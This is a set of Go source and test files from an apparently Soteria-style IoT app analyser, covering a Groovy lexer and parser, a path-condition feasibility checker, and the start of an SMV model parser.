					expr.WriteRune(c)
				}
				flushText()
				parts = append(parts, GPart{Expr: expr.String(), IsExpr: true})
				full.WriteString("${" + expr.String() + "}")
				continue
			}
			if isIdentStart(l.peek()) {
				var expr strings.Builder
				for isIdentPart(l.peek()) {
					expr.WriteRune(l.next())
				}
				// Dotted path: $evt.value
				for l.peek() == '.' && isIdentStart(l.peek2()) {
					expr.WriteRune(l.next())
					for isIdentPart(l.peek()) {
						expr.WriteRune(l.next())
					}
				}
				flushText()
				parts = append(parts, GPart{Expr: expr.String(), IsExpr: true})
				full.WriteString("$" + expr.String())
				continue
			}
			text.WriteRune('$')
			full.WriteRune('$')
			continue
		}
		l.next()
		text.WriteRune(r)
		full.WriteRune(r)
	}
	flushText()
	return Token{Kind: GSTRING, Text: full.String(), Parts: parts, Pos: p}
}
