package groovy

import (
	"strings"
	"testing"
)

func TestNestedClosures(t *testing.T) {
	f := parseOK(t, "t", `
def h() {
    devices.each { d ->
        d.states.each { s ->
            log.debug "state $s"
        }
    }
}
`)
	closures := 0
	Walk(f.Methods[0], func(n Node) bool {
		if _, ok := n.(*ClosureLit); ok {
			closures++
		}
		return true
	})
	if closures != 2 {
		t.Errorf("closures = %d, want 2", closures)
	}
}

func TestDollarWithoutIdent(t *testing.T) {
	toks := lexOK(t, `"price: $5"`)
	// $ followed by a digit is literal text.
	if len(toks[0].Parts) != 1 || toks[0].Parts[0].IsExpr {
		t.Errorf("parts = %+v", toks[0].Parts)
	}
	if toks[0].Parts[0].Text != "price: $5" {
		t.Errorf("text = %q", toks[0].Parts[0].Text)
	}
}

func TestEscapedDollar(t *testing.T) {
	toks := lexOK(t, `"cost \$10"`)
	if len(toks[0].Parts) != 1 || toks[0].Parts[0].Text != "cost $10" {
		t.Errorf("parts = %+v", toks[0].Parts)
	}
}

func TestSafeNavigation(t *testing.T) {
	e, err := ParseExpr(`evt?.device?.label`)
	if err != nil {
		t.Fatal(err)
	}
	pe, ok := e.(*PropExpr)
	if !ok || !pe.Safe || pe.Name != "label" {
		t.Errorf("expr = %s", Format(e))
	}
}

func TestChainedElvis(t *testing.T) {
	e, err := ParseExpr(`a ?: b ?: c`)
	if err != nil {
		t.Fatal(err)
	}
	outer, ok := e.(*ElvisExpr)
	if !ok {
		t.Fatalf("expr = %T", e)
	}
	if _, ok := outer.Default.(*ElvisExpr); !ok {
		t.Errorf("elvis should chain right: %s", Format(e))
	}
}

func TestEmptyMethodAndBody(t *testing.T) {
	f := parseOK(t, "t", "def installed() { }\ndef h(evt) {\n}\n")
	if len(f.Methods) != 2 {
		t.Fatalf("methods = %d", len(f.Methods))
	}
	for _, m := range f.Methods {
		if len(m.Body.Stmts) != 0 {
			t.Errorf("%s body = %d stmts", m.Name, len(m.Body.Stmts))
		}
	}
}

func TestMultipleStatementsOneLine(t *testing.T) {
	f := parseOK(t, "t", `def h() { a = 1; b = 2; c = 3 }`)
	if n := len(f.Methods[0].Body.Stmts); n != 3 {
		t.Errorf("stmts = %d, want 3", n)
	}
}

func TestCommandCallWithMapArg(t *testing.T) {
	f := parseOK(t, "t", `sendEvent name: "status", value: "ok"`)
	call := f.Stmts[0].(*ExprStmt).X.(*CallExpr)
	if call.Name != "sendEvent" || len(call.NamedArgs) != 2 {
		t.Errorf("call = %s", Format(call))
	}
}

func TestNegativeNumberArg(t *testing.T) {
	f := parseOK(t, "t", `def h() { ther.setHeatingSetpoint(-5) }`)
	var call *CallExpr
	Walk(f.Methods[0], func(n Node) bool {
		if c, ok := n.(*CallExpr); ok && c.Name == "setHeatingSetpoint" {
			call = c
		}
		return true
	})
	u, ok := call.Args[0].(*UnaryExpr)
	if !ok || u.Op != MINUS {
		t.Errorf("arg = %s", Format(call.Args[0]))
	}
}

func TestMethodCallChain(t *testing.T) {
	e, err := ParseExpr(`the_battery.currentValue("battery").integerValue`)
	if err != nil {
		t.Fatal(err)
	}
	pe, ok := e.(*PropExpr)
	if !ok || pe.Name != "integerValue" {
		t.Fatalf("expr = %s", Format(e))
	}
	if _, ok := pe.Recv.(*CallExpr); !ok {
		t.Errorf("receiver = %T", pe.Recv)
	}
}

func TestDeepNestingIfChain(t *testing.T) {
	var sb strings.Builder
	sb.WriteString("def h(evt) {\n")
	for i := 0; i < 30; i++ {
		sb.WriteString("if (x > 1) {\n")
	}
	sb.WriteString("dev.on()\n")
	for i := 0; i < 30; i++ {
		sb.WriteString("}\n")
	}
	sb.WriteString("}\n")
	f := parseOK(t, "deep", sb.String())
	depth := 0
	Walk(f.Methods[0], func(n Node) bool {
		if _, ok := n.(*IfStmt); ok {
			depth++
		}
		return true
	})
	if depth != 30 {
		t.Errorf("if depth = %d", depth)
	}
}

func TestKeywordsInsideStrings(t *testing.T) {
	f := parseOK(t, "t", `def h() { log.debug "if def return while" }`)
	if len(f.Methods) != 1 {
		t.Fatal("parse failed")
	}
}

func TestCRLFInput(t *testing.T) {
	f := parseOK(t, "t", "def h() {\r\n  dev.on()\r\n}\r\n")
	if len(f.Methods[0].Body.Stmts) != 1 {
		t.Errorf("stmts = %d", len(f.Methods[0].Body.Stmts))
	}
}

func TestUnicodeInStrings(t *testing.T) {
	f := parseOK(t, "t", `def h() { sendPush("温度が高い ⚠️") }`)
	var lit string
	Walk(f.Methods[0], func(n Node) bool {
		if g, ok := n.(*GStringLit); ok {
			lit, _ = g.StaticText()
		}
		return true
	})
	if !strings.Contains(lit, "温度") {
		t.Errorf("lit = %q", lit)
	}
}

func TestCommentOnlyFile(t *testing.T) {
	f := parseOK(t, "t", "// nothing here\n/* or here */\n")
	if len(f.Methods) != 0 || len(f.Stmts) != 0 {
		t.Errorf("file = %+v", f)
	}
}

func TestMapLitNestedInNamedArg(t *testing.T) {
	f := parseOK(t, "t", `page(name: "p", options: [a: 1, b: [c: 2]])`)
	call := f.Stmts[0].(*ExprStmt).X.(*CallExpr)
	if len(call.NamedArgs) != 2 {
		t.Fatalf("named = %d", len(call.NamedArgs))
	}
	m, ok := call.NamedArgs[1].Value.(*MapLit)
	if !ok || len(m.Entries) != 2 {
		t.Errorf("options = %s", Format(call.NamedArgs[1].Value))
	}
}
