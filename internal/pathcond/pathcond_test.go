package pathcond

import (
	"testing"
	"testing/quick"
)

func num(v string, op Op, c float64) Atom {
	return Atom{Var: v, Op: op, Num: c, IsNum: true}
}

func str(v string, op Op, s string) Atom {
	return Atom{Var: v, Op: op, Str: s}
}

func TestFeasibleTrivial(t *testing.T) {
	if !Feasible(True()) {
		t.Error("empty condition must be feasible")
	}
}

func TestPaperExampleInfeasible(t *testing.T) {
	// §4.2.1: "if a path goes through two conditional branches and the
	// first branch evaluates x > 1 to true and the second evaluates
	// x < 0 to true, then it is an infeasible path."
	c := True().WithAtom(num("x", GT, 1)).WithAtom(num("x", LT, 0))
	if Feasible(c) {
		t.Error("x>1 && x<0 must be infeasible")
	}
}

func TestNumericIntervals(t *testing.T) {
	cases := []struct {
		atoms []Atom
		want  bool
	}{
		{[]Atom{num("x", GT, 5), num("x", LT, 10)}, true},
		{[]Atom{num("x", GT, 5), num("x", LT, 5)}, false},
		{[]Atom{num("x", GE, 5), num("x", LE, 5)}, true},
		{[]Atom{num("x", GE, 5), num("x", LT, 5)}, false},
		{[]Atom{num("x", EQ, 7), num("x", GT, 5)}, true},
		{[]Atom{num("x", EQ, 7), num("x", GT, 7)}, false},
		{[]Atom{num("x", EQ, 7), num("x", EQ, 8)}, false},
		{[]Atom{num("x", EQ, 7), num("x", NE, 7)}, false},
		{[]Atom{num("x", NE, 7)}, true},
		{[]Atom{num("x", GE, 5), num("x", LE, 5), num("x", NE, 5)}, false},
		{[]Atom{num("x", GT, 50), num("x", LT, 5)}, false}, // thermostat example
		{[]Atom{num("x", GT, 1), num("y", LT, 0)}, true},   // different vars
	}
	for _, c := range cases {
		cond := Cond{Atoms: c.atoms}
		if got := Feasible(cond); got != c.want {
			t.Errorf("Feasible(%s) = %t, want %t", cond, got, c.want)
		}
	}
}

func TestStringConstraints(t *testing.T) {
	cases := []struct {
		atoms []Atom
		want  bool
	}{
		{[]Atom{str("evt.value", EQ, "detected")}, true},
		{[]Atom{str("evt.value", EQ, "detected"), str("evt.value", EQ, "clear")}, false},
		{[]Atom{str("evt.value", EQ, "detected"), str("evt.value", NE, "clear")}, true},
		{[]Atom{str("evt.value", EQ, "detected"), str("evt.value", NE, "detected")}, false},
		{[]Atom{str("evt.value", NE, "detected"), str("evt.value", NE, "clear")}, true},
		{[]Atom{str("evt.value", NE, "detected"), str("evt.value", EQ, "detected")}, false},
	}
	for _, c := range cases {
		cond := Cond{Atoms: c.atoms}
		if got := Feasible(cond); got != c.want {
			t.Errorf("Feasible(%s) = %t, want %t", cond, got, c.want)
		}
	}
}

func TestOpaqueTermsAssumedSatisfiable(t *testing.T) {
	c := True().WithOpaque("location.contactBookEnabled", false)
	if !Feasible(c) {
		t.Error("opaque terms must not make a condition infeasible")
	}
	d := c.WithAtom(num("x", GT, 1)).WithAtom(num("x", LT, 0))
	if Feasible(d) {
		t.Error("atoms still decide feasibility alongside opaque terms")
	}
}

func TestNegate(t *testing.T) {
	pairs := map[Op]Op{EQ: NE, NE: EQ, LT: GE, GE: LT, GT: LE, LE: GT}
	for o, w := range pairs {
		if o.Negate() != w {
			t.Errorf("%s.Negate() = %s, want %s", o, o.Negate(), w)
		}
	}
}

func TestAtomNegatedInvolution(t *testing.T) {
	f := func(opByte uint8, c float64) bool {
		a := num("x", Op(opByte%6), c)
		return a.Negated().Negated() == a
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Property: an atom and its negation are never jointly feasible, and
// at least one of them is individually feasible.
func TestAtomAndNegationExclusive(t *testing.T) {
	f := func(opByte uint8, c float64, isNum bool) bool {
		var a Atom
		if isNum {
			a = num("v", Op(opByte%6), c)
		} else {
			a = str("v", Op(opByte%2), "s") // EQ/NE for strings
		}
		both := Cond{Atoms: []Atom{a, a.Negated()}}
		return !Feasible(both) &&
			(Feasible(Cond{Atoms: []Atom{a}}) || Feasible(Cond{Atoms: []Atom{a.Negated()}}))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// Property: feasibility is monotone — adding atoms never turns an
// infeasible condition feasible.
func TestFeasibilityMonotone(t *testing.T) {
	f := func(a, b, c float64) bool {
		base := True().WithAtom(num("x", GT, a)).WithAtom(num("x", LT, b))
		ext := base.WithAtom(num("x", EQ, c))
		if !Feasible(base) && Feasible(ext) {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestImplies(t *testing.T) {
	c := True().WithAtom(num("x", GT, 50))
	if !Implies(c, num("x", GT, 10)) {
		t.Error("x>50 should imply x>10")
	}
	if Implies(c, num("x", GT, 60)) {
		t.Error("x>50 should not imply x>60")
	}
	s := True().WithAtom(str("evt.value", EQ, "wet"))
	if !Implies(s, str("evt.value", NE, "dry")) {
		t.Error("evt.value==wet should imply evt.value!=dry")
	}
}

func TestContradicts(t *testing.T) {
	a := True().WithAtom(str("mode", EQ, "home"))
	b := True().WithAtom(str("mode", EQ, "away"))
	if !Contradicts(a, b) {
		t.Error("mode==home contradicts mode==away")
	}
	if Contradicts(a, a) {
		t.Error("a condition does not contradict itself")
	}
}

func TestCanonicalDeterministic(t *testing.T) {
	c1 := Cond{Atoms: []Atom{num("x", GT, 1), str("m", EQ, "home")}}
	c2 := Cond{Atoms: []Atom{str("m", EQ, "home"), num("x", GT, 1)}}
	if c1.Canonical() != c2.Canonical() {
		t.Errorf("canonical forms differ: %q vs %q", c1.Canonical(), c2.Canonical())
	}
}

func TestVars(t *testing.T) {
	c := Cond{Atoms: []Atom{num("x", GT, 1), str("m", EQ, "home"), num("x", LT, 9)}}
	vars := c.Vars()
	if len(vars) != 2 || vars[0] != "m" || vars[1] != "x" {
		t.Errorf("vars = %v", vars)
	}
}

func TestCondStringRendering(t *testing.T) {
	c := True().WithAtom(num("power_meter.power", GT, 50))
	if got := c.String(); got != "power_meter.power > 50" {
		t.Errorf("String() = %q", got)
	}
	if True().String() != "true" {
		t.Errorf("true rendering = %q", True().String())
	}
}

func sym(v string, op Op, rhs string) Atom {
	return Atom{Var: v, Op: op, RHSVar: rhs}
}

func TestSymbolicAtoms(t *testing.T) {
	cases := []struct {
		atoms []Atom
		want  bool
	}{
		{[]Atom{sym("battery", LT, "thrshld")}, true},
		{[]Atom{sym("battery", LT, "thrshld"), sym("battery", GE, "thrshld")}, false},
		{[]Atom{sym("battery", LT, "thrshld"), sym("battery", LE, "thrshld")}, true},
		{[]Atom{sym("battery", EQ, "thrshld"), sym("battery", NE, "thrshld")}, false},
		{[]Atom{sym("battery", LT, "thrshld"), sym("battery", GT, "other")}, true},
		{[]Atom{sym("x", GT, "t"), sym("y", LT, "t")}, true},
	}
	for _, c := range cases {
		cond := Cond{Atoms: c.atoms}
		if got := Feasible(cond); got != c.want {
			t.Errorf("Feasible(%s) = %t, want %t", cond, got, c.want)
		}
	}
}

func TestSymbolicAtomNegation(t *testing.T) {
	a := sym("battery", LT, "thrshld")
	if Feasible(Cond{Atoms: []Atom{a, a.Negated()}}) {
		t.Error("symbolic atom and its negation must contradict")
	}
	if !Implies(Cond{Atoms: []Atom{a}}, sym("battery", LE, "thrshld")) {
		t.Error("battery<t should imply battery<=t")
	}
}
