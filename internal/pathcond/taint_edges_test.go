// Table-driven tests for the path-condition edges the taint family
// leans on: the guard of every reported flow is built by conjoining
// branch atoms (negated on else-edges), pruned by Feasible before a
// sink is reported, and rendered through Canonical for byte-stable
// reports. These tables pin that fragment precisely.
package pathcond

import "testing"

// TestBranchNegationChains models if / else-if / else ladders the way
// symexec builds them: each else-edge conjoins the negation of every
// earlier branch condition. The table walks the polarity combinations
// and pins which are feasible.
func TestBranchNegationChains(t *testing.T) {
	// The ladder predicate set for a presence handler:
	//   if (evt.value == "present") ...            — p
	//   else if (power > 50) ...                   — q
	//   else ...
	p := str("evt.value", EQ, "present")
	q := num("meter.power", GT, 50)
	cases := []struct {
		name  string
		atoms []Atom
		want  bool
	}{
		{"then-edge", []Atom{p}, true},
		{"else-if edge: !p && q", []Atom{p.Negated(), q}, true},
		{"final else: !p && !q", []Atom{p.Negated(), q.Negated()}, true},
		{"re-testing p on the else edge contradicts", []Atom{p.Negated(), p}, false},
		{"re-testing q on the final else contradicts", []Atom{p.Negated(), q.Negated(), q}, false},
		{"double negation restores the then edge", []Atom{p.Negated().Negated(), p}, true},
		{"both polarities of the ladder head", []Atom{p, p.Negated()}, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Feasible(Cond{Atoms: tc.atoms}); got != tc.want {
				t.Errorf("Feasible(%s) = %t, want %t", Cond{Atoms: tc.atoms}, got, tc.want)
			}
		})
	}
}

// TestContradictionPruningMixedKinds covers the conjunctions that
// decide whether a sink's guard survives taint reporting: numeric
// intervals, string enums, and symbolic thresholds mixed in one
// condition, exactly the shape nested handler branches produce.
func TestContradictionPruningMixedKinds(t *testing.T) {
	cases := []struct {
		name  string
		atoms []Atom
		want  bool
	}{
		{
			"subscription value + agreeing branch",
			[]Atom{str("evt.value", EQ, "not present"), str("evt.value", NE, "present")},
			true,
		},
		{
			"subscription value + contradicting inner branch",
			[]Atom{str("evt.value", EQ, "not present"), str("evt.value", EQ, "present")},
			false,
		},
		{
			"numeric window around a threshold",
			[]Atom{num("meter.power", GT, 5), num("meter.power", LT, 50), num("meter.power", EQ, 10)},
			true,
		},
		{
			"numeric window excludes the tested point",
			[]Atom{num("meter.power", GT, 5), num("meter.power", LT, 50), num("meter.power", EQ, 50)},
			false,
		},
		{
			"string and numeric constraints on distinct vars are independent",
			[]Atom{str("mode", EQ, "away"), num("battery.battery", LT, 20)},
			true,
		},
		{
			"symbolic threshold both polarities",
			[]Atom{sym("battery.battery", LT, "thrshld"), sym("battery.battery", GE, "thrshld")},
			false,
		},
		{
			"symbolic threshold vs a different symbol is unconstrained",
			[]Atom{sym("battery.battery", LT, "thrshld"), sym("battery.battery", GE, "other")},
			true,
		},
		{
			"equalities to two enum values contradict",
			[]Atom{str("mode", EQ, "away"), str("mode", EQ, "home")},
			false,
		},
		{
			"point interval carved out by a disequality",
			[]Atom{num("level", GE, 7), num("level", LE, 7), num("level", NE, 7)},
			false,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Feasible(Cond{Atoms: tc.atoms}); got != tc.want {
				t.Errorf("Feasible(%s) = %t, want %t", Cond{Atoms: tc.atoms}, got, tc.want)
			}
		})
	}
}

// TestOpaqueNegationRendering pins the `!(term)` rendering of negated
// opaque predicates — it appears verbatim in taint witness conditions —
// and that opaque terms of either polarity never prune a path.
func TestOpaqueNegationRendering(t *testing.T) {
	c := True().WithOpaque("isDaytime()", true)
	if got := c.String(); got != "!(isDaytime())" {
		t.Errorf("negated opaque rendering = %q", got)
	}
	if !Feasible(c) {
		t.Error("negated opaque term must stay satisfiable")
	}
	both := c.WithOpaque("isDaytime()", false)
	if !Feasible(both) {
		t.Error("opaque contradiction is deliberately not modeled")
	}
}

// TestCanonicalCollapsesRepeatedBranchAtoms covers the loop re-entry
// shape: a while body re-tested once conjoins the same branch atom
// twice, and Canonical must collapse the duplicates so the witness
// condition renders each predicate once.
func TestCanonicalCollapsesRepeatedBranchAtoms(t *testing.T) {
	a := num("retries", LT, 3)
	b := str("evt.value", EQ, "wet")
	c := Cond{Atoms: []Atom{a, b, a, b, a}}
	want := Cond{Atoms: []Atom{a, b}}.Canonical()
	if got := c.Canonical(); got != want {
		t.Errorf("Canonical() = %q, want %q", got, want)
	}
	// And() preserves operand atoms verbatim; only Canonical dedupes.
	d := Cond{Atoms: []Atom{a}}.And(Cond{Atoms: []Atom{a}})
	if len(d.Atoms) != 2 {
		t.Errorf("And kept %d atoms, want 2", len(d.Atoms))
	}
	if d.Canonical() != (Cond{Atoms: []Atom{a}}).Canonical() {
		t.Errorf("canonical of a && a differs from a: %q", d.Canonical())
	}
}

// TestImpliesAcrossNegatedEdges checks Implies on every operator pair
// produced by branch negation: the taken edge implies the negation of
// the not-taken edge's atom and vice versa.
func TestImpliesAcrossNegatedEdges(t *testing.T) {
	ops := []Op{EQ, NE, LT, LE, GT, GE}
	for _, op := range ops {
		a := num("x", op, 5)
		c := True().WithAtom(a)
		if !Implies(c, a) {
			t.Errorf("%s does not imply itself", a)
		}
		if Feasible(c.WithAtom(a.Negated())) {
			t.Errorf("%s && %s should be infeasible", a, a.Negated())
		}
		if a.Negated().Negated() != a {
			t.Errorf("%s negation is not an involution", a)
		}
	}
}
