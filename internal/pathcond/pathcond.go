// Package pathcond implements Soteria's custom path-condition checker
// (paper §4.2.1). The paper observes that predicates in IoT apps are
// overwhelmingly simple comparisons between variables and constants
// (x = c, x > c, string equality), so instead of a general SMT solver
// Soteria uses a purpose-built checker: numeric atoms are intersected
// as intervals, string/enum atoms as equality/disequality sets, and a
// path is infeasible exactly when some variable's constraint set
// becomes empty.
package pathcond

import (
	"fmt"
	"math"
	"sort"
	"strings"
)

// Op is a comparison operator in an atom.
type Op int

// Comparison operators.
const (
	EQ Op = iota
	NE
	LT
	LE
	GT
	GE
)

func (o Op) String() string {
	switch o {
	case EQ:
		return "=="
	case NE:
		return "!="
	case LT:
		return "<"
	case LE:
		return "<="
	case GT:
		return ">"
	case GE:
		return ">="
	}
	return fmt.Sprintf("Op(%d)", int(o))
}

// Negate returns the complementary operator (¬(x<c) ≡ x>=c, ...).
func (o Op) Negate() Op {
	switch o {
	case EQ:
		return NE
	case NE:
		return EQ
	case LT:
		return GE
	case LE:
		return GT
	case GT:
		return LE
	case GE:
		return LT
	}
	return o
}

// SourceKind labels where the constant side of a predicate came from
// (paper §4.2.2: predicates are labeled device-state, developer-
// defined, user-defined, or state-variable so that properties can be
// stated precisely).
type SourceKind int

// Source kinds for predicate components.
const (
	DeveloperDefined SourceKind = iota
	UserDefined
	DeviceState
	StateVariable
	UnknownSource
)

func (k SourceKind) String() string {
	switch k {
	case DeveloperDefined:
		return "developer-defined"
	case UserDefined:
		return "user-defined"
	case DeviceState:
		return "device-state"
	case StateVariable:
		return "state-variable"
	}
	return "unknown"
}

// Atom is a single comparison `Var Op rhs`. The right-hand side is a
// numeric constant (IsNum), a string constant, or — for comparisons
// against install-time user inputs and state variables, which have no
// compile-time value — a symbolic name (RHSVar, e.g. "thrshld").
// Var is a canonical string for the compared expression (e.g.
// "power_meter.power", "evt.value", "state.counter").
type Atom struct {
	Var     string
	Op      Op
	Num     float64
	Str     string
	IsNum   bool
	RHSVar  string     // non-empty for symbolic right-hand sides
	VarKind SourceKind // provenance of the variable side
	CmpKind SourceKind // provenance of the constant side
}

// IsSym reports whether the atom compares against a symbolic
// right-hand side.
func (a Atom) IsSym() bool { return a.RHSVar != "" }

func (a Atom) String() string {
	if a.IsSym() {
		return fmt.Sprintf("%s %s %s", a.Var, a.Op, a.RHSVar)
	}
	if a.IsNum {
		return fmt.Sprintf("%s %s %g", a.Var, a.Op, a.Num)
	}
	return fmt.Sprintf("%s %s %q", a.Var, a.Op, a.Str)
}

// Negated returns the logically negated atom.
func (a Atom) Negated() Atom {
	a.Op = a.Op.Negate()
	return a
}

// Cond is a conjunction of atoms plus opaque (unmodeled) terms. True
// is the empty conjunction.
type Cond struct {
	Atoms []Atom
	// Opaque holds formatted predicate terms the checker cannot
	// interpret (calls, boolean flags, compound arithmetic). They are
	// carried for labeling but assumed satisfiable.
	Opaque []string
}

// True returns the trivially-true condition.
func True() Cond { return Cond{} }

// And returns the conjunction of c and d.
func (c Cond) And(d Cond) Cond {
	out := Cond{
		Atoms:  append(append([]Atom{}, c.Atoms...), d.Atoms...),
		Opaque: append(append([]string{}, c.Opaque...), d.Opaque...),
	}
	return out
}

// WithAtom returns c ∧ a.
func (c Cond) WithAtom(a Atom) Cond {
	return Cond{Atoms: append(append([]Atom{}, c.Atoms...), a), Opaque: c.Opaque}
}

// WithOpaque returns c ∧ ⟨opaque term⟩.
func (c Cond) WithOpaque(term string, negated bool) Cond {
	if negated {
		term = "!(" + term + ")"
	}
	return Cond{Atoms: c.Atoms, Opaque: append(append([]string{}, c.Opaque...), term)}
}

// IsTrue reports whether the condition is the empty (trivially true)
// conjunction.
func (c Cond) IsTrue() bool { return len(c.Atoms) == 0 && len(c.Opaque) == 0 }

func (c Cond) String() string {
	if c.IsTrue() {
		return "true"
	}
	parts := make([]string, 0, len(c.Atoms)+len(c.Opaque))
	for _, a := range c.Atoms {
		parts = append(parts, a.String())
	}
	parts = append(parts, c.Opaque...)
	return strings.Join(parts, " && ")
}

// interval is a numeric constraint: an open/closed range plus a
// disequality set.
type interval struct {
	lo, hi         float64
	loOpen, hiOpen bool
	ne             map[float64]bool
}

func newInterval() *interval {
	return &interval{lo: math.Inf(-1), hi: math.Inf(1), ne: map[float64]bool{}}
}

func (iv *interval) apply(op Op, c float64) {
	switch op {
	case EQ:
		if c > iv.lo || (c == iv.lo && !iv.loOpen) {
			iv.lo, iv.loOpen = c, false
		}
		if c < iv.hi || (c == iv.hi && !iv.hiOpen) {
			iv.hi, iv.hiOpen = c, false
		}
		if c < iv.lo || c > iv.hi {
			iv.lo, iv.hi = 1, 0 // force empty
		}
	case NE:
		iv.ne[c] = true
	case LT:
		if c < iv.hi || (c == iv.hi && !iv.hiOpen) {
			iv.hi, iv.hiOpen = c, true
		}
	case LE:
		if c < iv.hi {
			iv.hi, iv.hiOpen = c, false
		}
	case GT:
		if c > iv.lo || (c == iv.lo && !iv.loOpen) {
			iv.lo, iv.loOpen = c, true
		}
	case GE:
		if c > iv.lo {
			iv.lo, iv.loOpen = c, false
		}
	}
}

func (iv *interval) empty() bool {
	if iv.lo > iv.hi {
		return true
	}
	if iv.lo == iv.hi {
		if iv.loOpen || iv.hiOpen {
			return true
		}
		// Point interval excluded by a disequality.
		if iv.ne[iv.lo] {
			return true
		}
	}
	return false
}

// stringSet is a string constraint: a required value and a forbidden
// set.
type stringSet struct {
	eq    string
	hasEq bool
	ne    map[string]bool
}

func (s *stringSet) apply(op Op, v string) bool {
	switch op {
	case EQ:
		if s.hasEq && s.eq != v {
			return false
		}
		if s.ne[v] {
			return false
		}
		s.eq, s.hasEq = v, true
	case NE:
		if s.hasEq && s.eq == v {
			return false
		}
		if s.ne == nil {
			s.ne = map[string]bool{}
		}
		s.ne[v] = true
	default:
		// Ordered string comparison: uninterpreted, assume satisfiable.
	}
	return true
}

// Feasible reports whether the conjunction of atoms can be satisfied.
// Opaque terms are ignored (assumed satisfiable) — exactly the paper's
// over-approximation. This is the "simple custom checker for path
// conditions" of §4.2.1.
func Feasible(c Cond) bool {
	nums := map[string]*interval{}
	strs := map[string]*stringSet{}
	// Symbolic atoms: constrain the difference Var-RHSVar against 0,
	// bucketed per (Var, RHSVar) pair — so x < t ∧ x >= t is caught
	// even though t's value is unknown.
	syms := map[string]*interval{}
	for _, a := range c.Atoms {
		if a.IsSym() {
			k := a.Var + "|" + a.RHSVar
			iv := syms[k]
			if iv == nil {
				iv = newInterval()
				syms[k] = iv
			}
			iv.apply(a.Op, 0)
			if iv.empty() {
				return false
			}
			continue
		}
		if a.IsNum {
			iv := nums[a.Var]
			if iv == nil {
				iv = newInterval()
				nums[a.Var] = iv
			}
			iv.apply(a.Op, a.Num)
			if iv.empty() {
				return false
			}
		} else {
			ss := strs[a.Var]
			if ss == nil {
				ss = &stringSet{}
				strs[a.Var] = ss
			}
			if !ss.apply(a.Op, a.Str) {
				return false
			}
		}
	}
	return true
}

// Contradicts reports whether c ∧ d is infeasible — used for merging
// decisions and transition labeling.
func Contradicts(c, d Cond) bool { return !Feasible(c.And(d)) }

// Implies reports whether c logically implies atom a under the
// checker's fragment: it holds when c ∧ ¬a is infeasible.
func Implies(c Cond, a Atom) bool { return !Feasible(c.WithAtom(a.Negated())) }

// Vars returns the sorted set of variables mentioned in the atoms.
func (c Cond) Vars() []string {
	set := map[string]bool{}
	for _, a := range c.Atoms {
		set[a.Var] = true
	}
	out := make([]string, 0, len(set))
	for v := range set {
		out = append(out, v)
	}
	sort.Strings(out)
	return out
}

// Canonical returns a deterministic rendering with atoms sorted and
// duplicates removed; used to deduplicate path conditions (and to
// guarantee termination of backward walks around loops, whose repeated
// branch atoms collapse to one).
func (c Cond) Canonical() string {
	parts := make([]string, 0, len(c.Atoms)+len(c.Opaque))
	for _, a := range c.Atoms {
		parts = append(parts, a.String())
	}
	parts = append(parts, c.Opaque...)
	sort.Strings(parts)
	uniq := parts[:0]
	for i, p := range parts {
		if i == 0 || parts[i-1] != p {
			uniq = append(uniq, p)
		}
	}
	return strings.Join(uniq, " && ")
}
