package smv

import (
	"fmt"
	"sort"
	"strings"
)

// VarDecl is one enumerated variable of a parsed module.
type VarDecl struct {
	Name   string
	Values []string
}

// Assign is one equality conjunct of an INIT or TRANS section:
// "name = value" or "next(name) = value".
type Assign struct {
	Var   string
	Next  bool
	Value string
}

// Module is a parsed SMV module in the subset Emit produces: an
// enumerated VAR section, an INIT conjunction, a TRANS disjunction of
// assignment conjunctions, and SPEC lines (kept as raw formula text).
type Module struct {
	Vars  []VarDecl
	Init  []Assign
	Trans [][]Assign
	Specs []string
}

// VarByName returns the declaration of the named variable.
func (m *Module) VarByName(name string) (VarDecl, bool) {
	for _, v := range m.Vars {
		if v.Name == name {
			return v, true
		}
	}
	return VarDecl{}, false
}

// Parse reads a module in the exact subset Emit produces. It is the
// re-parse half of the emitter round-trip used by the conformance
// oracle: Parse(Emit(model, specs)) must succeed and re-emit
// byte-identically. Errors (never panics) on anything outside the
// subset.
func Parse(src string) (*Module, error) {
	p := &mparser{lines: strings.Split(src, "\n")}
	return p.parse()
}

type mparser struct {
	lines []string
	pos   int
}

func (p *mparser) next() (string, bool) {
	if p.pos >= len(p.lines) {
		return "", false
	}
	l := p.lines[p.pos]
	p.pos++
	return l, true
}

func (p *mparser) peek() (string, bool) {
	if p.pos >= len(p.lines) {
		return "", false
	}
	return p.lines[p.pos], true
}

func (p *mparser) parse() (*Module, error) {
	m := &Module{}
	l, ok := p.next()
	if !ok || strings.TrimSpace(l) != "MODULE main" {
		return nil, fmt.Errorf("smv: expected 'MODULE main', got %q", l)
	}
	if l, ok = p.next(); !ok || strings.TrimSpace(l) != "VAR" {
		return nil, fmt.Errorf("smv: expected 'VAR', got %q", l)
	}
	// Variable declarations until a blank line.
	for {
		l, ok = p.peek()
		if !ok {
			return nil, fmt.Errorf("smv: unexpected end of input in VAR section")
		}
		if strings.TrimSpace(l) == "" {
			p.pos++
			break
		}
		p.pos++
		v, err := parseVarDecl(l)
		if err != nil {
			return nil, err
		}
		if _, dup := m.VarByName(v.Name); dup {
			return nil, fmt.Errorf("smv: duplicate variable %s", v.Name)
		}
		m.Vars = append(m.Vars, v)
	}
	if l, ok = p.next(); !ok || strings.TrimSpace(l) != "INIT" {
		return nil, fmt.Errorf("smv: expected 'INIT', got %q", l)
	}
	if l, ok = p.next(); !ok {
		return nil, fmt.Errorf("smv: unexpected end of input in INIT section")
	}
	init, err := parseConjuncts(l)
	if err != nil {
		return nil, fmt.Errorf("smv: INIT: %w", err)
	}
	m.Init = init
	if l, ok = p.next(); !ok || strings.TrimSpace(l) != "" {
		return nil, fmt.Errorf("smv: expected blank line after INIT, got %q", l)
	}
	if l, ok = p.next(); !ok || strings.TrimSpace(l) != "TRANS" {
		return nil, fmt.Errorf("smv: expected 'TRANS', got %q", l)
	}
	// The TRANS section spans lines until a blank line or EOF; each
	// disjunct is parenthesized.
	var transText strings.Builder
	for {
		l, ok = p.peek()
		if !ok || strings.TrimSpace(l) == "" {
			break
		}
		p.pos++
		transText.WriteString(l)
		transText.WriteString("\n")
